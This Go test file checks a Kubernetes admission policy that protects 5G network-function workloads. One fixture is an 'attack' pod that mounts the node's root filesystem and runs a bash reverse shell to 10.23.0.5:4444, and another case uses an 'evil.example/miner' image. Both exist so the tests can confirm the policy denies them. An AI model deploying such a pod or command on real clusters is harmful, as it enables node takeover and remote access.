package policy

import (
	"context"
	"strings"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	autoscalingv1 "k8s.io/api/autoscaling/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/utils/ptr"

	"github.com/vnfguard/vnfguard/internal/vnf"
)

func peiratesPod() *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "attack-pod"},
		Spec: corev1.PodSpec{
			Containers: []corev1.Container{{
				Name: "attack", Image: "docker.io/library/ubuntu:22.04",
				Command:      []string{"/bin/sh", "-c", "bash -i >& /dev/tcp/10.23.0.5/4444 0>&1; sleep infinity"},
				VolumeMounts: []corev1.VolumeMount{{Name: "root", MountPath: "/root"}},
			}},
			Volumes: []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
		},
	}
}

func vnfmDeployment(name, instanceID string, spec corev1.PodSpec) *appsv1.Deployment {
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: protectedNS, Labels: map[string]string{vnf.DefaultInstanceLabel: instanceID}},
		Spec:       appsv1.DeploymentSpec{Replicas: ptr.To[int32](2), Template: corev1.PodTemplateSpec{Spec: spec}},
	}
}

func controllerPod(owner string, spec corev1.PodSpec) *corev1.Pod {
	return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: owner + "-x7k2p", OwnerReferences: []metav1.OwnerReference{ownedBy("ReplicaSet", owner)}}, Spec: spec}
}

func withSpec(f func(*corev1.PodSpec)) corev1.PodSpec {
	s := cnfPodSpec()
	f(&s)
	return s
}

func TestEvaluate(t *testing.T) {
	type want struct {
		allowed    bool
		checks     []string // denied checks, in any order
		message    []string // substrings of the denial message
		breakGlass bool
		exception  string
		// atLeast: the checks must be among the denials, others may deny too.
		atLeast bool
	}
	tests := []struct {
		name  string
		extra string // appended to the test config
		req   *Request
		want  want
	}{
		{
			name: "Peirates pod outside protected namespaces: host root mount and reverse shell",
			req:  podRequest(attacker, "default", peiratesPod()),
			want: want{checks: []string{"host-takeover", "reverse-shell", "pod-security", "image-registry"},
				message: []string{`spec.volumes[0].hostPath.path: hostPath "/" is the node's root filesystem`, "/dev/tcp", "FGT5013"}},
		},
		{
			name: "privileged VNF pod by the VNFM in a protected namespace",
			req: podRequest(vnfmUser, protectedNS, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "upf-priv", Labels: map[string]string{vnf.DefaultInstanceLabel: "upf-1"}},
				Spec: withSpec(func(s *corev1.PodSpec) { s.Containers[0].SecurityContext.Privileged = ptr.To(true) })}),
			want: want{checks: []string{"pod-security"}, message: []string{"privileged", "upf-1 (UPF, INSTANTIATED)", "profile upf"}},
		},
		{
			name: "pod from a non-VNFM identity in a protected namespace",
			req:  podRequest(attacker, protectedNS, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "fake-upf", Labels: map[string]string{vnf.DefaultInstanceLabel: "upf-1"}}, Spec: cnfPodSpec()}),
			want: want{checks: []string{"vnf-instantiation"}, message: []string{"mallory, which is not a VNFM identity"}},
		},
		{
			name: "VNFM Deployment with the declared digests",
			req:  deploymentRequest(Create, vnfmUser, vnfmDeployment("upf", "upf-1", cnfPodSpec()), nil),
			want: want{allowed: true},
		},
		{
			name: "VNFM Deployment for an instance unknown to the inventory",
			req:  deploymentRequest(Create, vnfmUser, vnfmDeployment("ghost", "ghost-1", cnfPodSpec()), nil),
			want: want{checks: []string{"vnf-instantiation"}, message: []string{"ghost-1 is not in the inventory"}},
		},
		{
			name: "VNFM Deployment with an undeclared digest and a tag",
			req: deploymentRequest(Create, vnfmUser, vnfmDeployment("upf", "upf-1", withSpec(func(s *corev1.PodSpec) {
				s.Containers[0].Image = "registry.5gc.example/5gc/upf@" + otherDigest
				s.Containers[1].Image = "registry.5gc.example/5gc/sidecar:1.2"
			})), nil),
			want: want{checks: []string{"image-provenance", "image-provenance"}, message: []string{"is not one that the VNF package upf-vnfd of instance upf-1 declared", "is not pinned by digest"}},
		},
		{
			name: "image from a registry that is not allowed",
			req: deploymentRequest(Create, vnfmUser, vnfmDeployment("upf", "upf-1", withSpec(func(s *corev1.PodSpec) {
				s.Containers[1].Image = "evil.example/miner@" + sideDigest
			})), nil),
			want: want{checks: []string{"image-registry"}, message: []string{"evil.example, which is not an allowed registry"}},
		},
		{
			name: "controller-created pod of a running instance, judged through its owner",
			req:  podRequest(controllerUser, protectedNS, controllerPod("upf-rs", cnfPodSpec())),
			want: want{allowed: true},
		},
		{
			name: "controller-created pod of a STOPPED instance is a zombie",
			req:  podRequest(controllerUser, protectedNS, controllerPod("smf-rs", withSpec(func(s *corev1.PodSpec) { s.Containers[0].Image = sideImage }))),
			want: want{checks: []string{"vnf-instantiation"}, message: []string{"smf-1, which the NFVO says is STOPPED"}},
		},
		{
			name: "pod claiming a controller owner but created by an attacker",
			req:  podRequest(attacker, protectedNS, controllerPod("upf-rs", cnfPodSpec())),
			want: want{checks: []string{"vnf-instantiation"}},
		},
		{
			name: "exec into a running VNF pod by a cluster admin",
			req:  connectRequest(opsAdmin, protectedNS, "upf-pod", "exec"),
			want: want{checks: []string{"lifecycle-access"}, message: []string{"not a break-glass identity", "FGT1609.501"}},
		},
		{
			name: "exec into a running VNF pod by break-glass is allowed and recorded",
			req:  connectRequest(breakGlassUser, protectedNS, "upf-pod", "exec"),
			want: want{allowed: true, breakGlass: true},
		},
		{
			name: "exec into a STOPPED VNF pod by break-glass",
			req:  connectRequest(breakGlassUser, protectedNS, "smf-pod", "exec"),
			want: want{checks: []string{"lifecycle-access"}, message: []string{"STOPPED: denied for everyone"}},
		},
		{
			name: "port-forward into a terminated VNF pod",
			req:  connectRequest(breakGlassUser, protectedNS, "amf-pod", "portforward"),
			want: want{checks: []string{"lifecycle-access"}, message: []string{"NOT_INSTANTIATED"}},
		},
		{
			name: "attach to a pod being deleted, outside protected namespaces",
			req:  connectRequest(opsAdmin, "default", "leaving", "attach"),
			want: want{checks: []string{"lifecycle-access"}, message: []string{"being deleted"}},
		},
		{
			name: "exec into an ordinary pod outside protected namespaces",
			req:  connectRequest(opsAdmin, "default", "web-1", "exec"),
			want: want{allowed: true},
		},
		{
			name: "ephemeral container (kubectl debug) on a STOPPED VNF pod",
			req: &Request{UID: "u", Operation: Update, Kind: schema.GroupVersionKind{Version: "v1", Kind: "Pod"}, SubResource: "ephemeralcontainers",
				Resource: schema.GroupVersionResource{Version: "v1", Resource: "pods"}, Namespace: protectedNS, Name: "smf-pod", User: breakGlassUser,
				Object: &corev1.Pod{ObjectMeta: meta("smf-pod", nil, ownedBy("ReplicaSet", "smf-rs")), Spec: withSpec(func(s *corev1.PodSpec) {
					s.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debugger", Image: "busybox"}}}
				})}},
			want: want{checks: []string{"lifecycle-access", "pod-security"}, atLeast: true, message: []string{"ephemeral container", "denied for everyone"}},
		},
		{
			name: "new pod mounting the PVC of a terminated VNF",
			req: podRequest(opsAdmin, protectedNS, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "reader"}, Spec: withSpec(func(s *corev1.PodSpec) {
				s.Volumes = []corev1.Volume{{Name: "d", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "amf-data"}}}}
			})}),
			want: want{checks: []string{"vnf-instantiation", "lifecycle-data"}, message: []string{"spec.volumes[0].persistentVolumeClaim.claimName: mounts PersistentVolumeClaim amf-data of VNF instance amf-1, which the NFVO says is NOT_INSTANTIATED"}},
		},
		{
			name: "new pod mounting the PVC of an instance the inventory no longer knows",
			req: podRequest(opsAdmin, protectedNS, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "reader"}, Spec: withSpec(func(s *corev1.PodSpec) {
				s.Volumes = []corev1.Volume{{Name: "d", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "orphan-data"}}}}
			})}),
			want: want{checks: []string{"vnf-instantiation", "lifecycle-data"}, message: []string{"gone-1, which the inventory no longer knows"}},
		},
		{
			name: "VNFM pod mounting the PVC of its running instance",
			req: podRequest(vnfmUser, protectedNS, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "upf-0", Labels: map[string]string{vnf.DefaultInstanceLabel: "upf-1"}}, Spec: withSpec(func(s *corev1.PodSpec) {
				s.Volumes = []corev1.Volume{{Name: "d", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "upf-data"}}}}
			})}),
			want: want{allowed: true},
		},
		{
			name: "VolumeSnapshot of a STOPPED VNF's PVC",
			req: &Request{UID: "u", Operation: Create, Kind: schema.GroupVersionKind{Group: "snapshot.storage.k8s.io", Version: "v1", Kind: "VolumeSnapshot"},
				Namespace: protectedNS, Name: "snap", User: opsAdmin, Object: &unstructured.Unstructured{Object: map[string]any{
					"apiVersion": "snapshot.storage.k8s.io/v1", "kind": "VolumeSnapshot",
					"metadata": map[string]any{"name": "snap", "namespace": protectedNS},
					"spec":     map[string]any{"source": map[string]any{"persistentVolumeClaimName": "smf-data"}}}}},
			want: want{checks: []string{"lifecycle-data"}, message: []string{"snapshot of PersistentVolumeClaim smf-data of VNF instance smf-1"}},
		},
		{
			name: "scaling a STOPPED instance up by an admin",
			req: &Request{UID: "u", Operation: Update, Kind: schema.GroupVersionKind{Group: "autoscaling", Version: "v1", Kind: "Scale"}, SubResource: "scale",
				Resource: schema.GroupVersionResource{Group: "apps", Version: "v1", Resource: "deployments"}, Namespace: protectedNS, Name: "smf", User: opsAdmin,
				Object: &autoscalingv1.Scale{Spec: autoscalingv1.ScaleSpec{Replicas: 3}}, OldObject: &autoscalingv1.Scale{Spec: autoscalingv1.ScaleSpec{Replicas: 0}}},
			want: want{checks: []string{"lifecycle-scale"}, message: []string{"scaling from 0 to 3 replicas by ops-admin would revive VNF instance smf-1"}},
		},
		{
			name: "the VNFM starting a STOPPED instance by scaling it up",
			req: &Request{UID: "u", Operation: Update, Kind: schema.GroupVersionKind{Group: "autoscaling", Version: "v1", Kind: "Scale"}, SubResource: "scale",
				Resource: schema.GroupVersionResource{Group: "apps", Version: "v1", Resource: "deployments"}, Namespace: protectedNS, Name: "smf", User: vnfmUser,
				Object: &autoscalingv1.Scale{Spec: autoscalingv1.ScaleSpec{Replicas: 3}}, OldObject: &autoscalingv1.Scale{Spec: autoscalingv1.ScaleSpec{Replicas: 0}}},
			want: want{allowed: true},
		},
		{
			name: "UPF profile allows NET_ADMIN, hugepages and its user-plane networks",
			req: deploymentRequest(Create, vnfmUser, vnfmDeployment("upf", "upf-1", withSpec(func(s *corev1.PodSpec) {
				s.Containers[0].SecurityContext.Capabilities.Add = []corev1.Capability{"NET_ADMIN", "IPC_LOCK"}
				s.Containers[0].Resources.Limits = corev1.ResourceList{"hugepages-1Gi": resource.MustParse("2Gi")}
			})), nil),
			want: want{allowed: true, exception: "profile upf allowed capabilities NET_ADMIN, IPC_LOCK"},
		},
		{
			name: "UPF profile does not allow SYS_ADMIN",
			req: deploymentRequest(Create, vnfmUser, vnfmDeployment("upf", "upf-1", withSpec(func(s *corev1.PodSpec) {
				s.Containers[0].SecurityContext.Capabilities.Add = []corev1.Capability{"NET_ADMIN", "SYS_ADMIN"}
			})), nil),
			// NET_ADMIN passes both checks by the profile; SYS_ADMIN neither.
			want: want{checks: []string{"dangerous-capability", "pod-security"}, message: []string{"SYS_ADMIN", "mount, cgroup release_agent"}},
		},
		{
			name: "SMF (no profile) may not attach Multus networks",
			req: podRequest(controllerUser, protectedNS, func() *corev1.Pod {
				p := controllerPod("upf-rs", cnfPodSpec())
				p.Annotations = map[string]string{multusAnnotation: "n3,mgmt@eth2"}
				return p
			}()),
			want: want{checks: []string{"network-attachments"}, message: []string{`attaches network "mgmt"`}},
		},
		{
			name:  "warn mode allows and warns",
			extra: "checks: {vnf-instantiation: {mode: warn}}\n",
			req:   podRequest(attacker, protectedNS, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "fake"}, Spec: cnfPodSpec()}),
			want:  want{allowed: true},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := newTestEnv(t, tt.extra)
			d := env.evaluator(t).Evaluate(context.Background(), tt.req)
			if len(d.Errors) > 0 {
				t.Fatalf("internal errors: %v", d.Errors)
			}
			if d.Allowed != (len(tt.want.checks) == 0) && !(tt.want.allowed && d.Allowed) {
				t.Fatalf("allowed = %v, want %v; message %q", d.Allowed, tt.want.allowed, d.Message())
			}
			var got []string
			for _, v := range d.Denials {
				got = append(got, v.Check)
			}
			if tt.want.atLeast && !containsAll(got, tt.want.checks) || !tt.want.atLeast && !sameSet(got, tt.want.checks) {
				t.Errorf("denied by %v, want %v; message %q", got, tt.want.checks, d.Message())
			}
			for _, sub := range tt.want.message {
				if !strings.Contains(d.Message(), sub) {
					t.Errorf("message %q does not contain %q", d.Message(), sub)
				}
			}
			if (d.BreakGlass != "") != tt.want.breakGlass {
				t.Errorf("break-glass = %q, want %v", d.BreakGlass, tt.want.breakGlass)
			}
			if tt.want.exception != "" && !strings.Contains(strings.Join(d.Exceptions, "; "), tt.want.exception) {
				t.Errorf("exceptions %q do not name %q", d.Exceptions, tt.want.exception)
			}
		})
	}
}

func sameSet(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	count := map[string]int{}
	for _, x := range a {
		count[x]++
	}
	for _, x := range b {
		count[x]--
	}
	for _, n := range count {
		if n != 0 {
			return false
		}
	}
	return true
}

func containsAll(have, want []string) bool {
	for _, w := range want {
		found := false
		for _, h := range have {
			found = found || h == w
		}
		if !found {
			return false
		}
	}
	return true
}
